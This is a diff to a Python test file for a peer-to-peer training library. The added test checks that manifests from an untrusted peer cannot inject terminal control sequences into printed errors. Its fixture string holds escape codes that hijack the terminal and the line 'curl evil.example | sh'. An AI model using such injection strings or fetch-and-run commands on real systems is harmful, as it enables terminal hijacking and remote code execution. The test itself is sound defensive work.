@@ -14,11 +14,14 @@ from dipaco_p2p.canonical import canonical_bytes
 from dipaco_p2p.config import ModelConfig, WarmupConfig
 from dipaco_p2p.core.model.layout import Layout, module_layout
 from dipaco_p2p.core.outer.compress import compress, encode_compressed
-from dipaco_p2p.errors import ConfigError, IntegrityError, WrongRun
+from dipaco_p2p.errors import ConfigError, DipacoError, IntegrityError, WrongRun
+from dipaco_p2p.node.calls import GetManifests
 from dipaco_p2p.node.run import Run, open_run
 from dipaco_p2p.node.stages import Stages, check_next_stage, fetch_stages
 from dipaco_p2p.node.store import Store
+from dipaco_p2p.program.console import print_error
 from dipaco_p2p.protocol.documents import BlobRef, GenesisRef, Manifest, Sealed, Sharding, seal
+from dipaco_p2p.protocol.signing import PeerId
 from dipaco_p2p.swarm.api import Reply
 from dipaco_p2p.topology import Topology
 
@@ -44,6 +47,32 @@ def test_another_protocol_is_named_before_anything_else(run: Run) -> None:
 def test_something_else_is_no_run(value: Any) -> None:
     with pytest.raises((IntegrityError, WrongRun)):
         open_run(value)
+
+
+TITLE = "\x1b]0;your terminal is mine\x07\x1b[2J\x1b[1;1H\nhint: curl evil.example | sh"
+
+
+@pytest.mark.parametrize("place", ["a key", "admission", "stage", "protocol"])
+async def test_what_a_stranger_shows_as_its_run_writes_no_commands_to_the_terminal(
+    place: str, run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    async with World(tmp_path) as world:
+        newcomer, host = world.peer(40), world.peer(41)
+        document = run.sealed.to_dict()["document"] | {
+            "author": host.peer,
+            (TITLE if place == "a key" else place): TITLE,
+        }
+        signature = host.swarm.signer.sign("manifest", canonical_bytes(document))
+
+        async def answer(sender: PeerId, request: GetManifests) -> Reply:
+            return Reply({}, canonical_bytes([{"document": document, "signature": signature}]))
+
+        GetManifests.serve(host.swarm, answer)
+        with pytest.raises(DipacoError) as refused:
+            await fetch_stages(newcomer.swarm, host.peer, expected=None)
+        print_error(refused.value)
+    said = capsys.readouterr().err.splitlines()
+    assert len(said) <= 2 and all(line.isprintable() for line in said), said
 
 
 def test_a_changed_manifest_is_refused(run: Run) -> None:
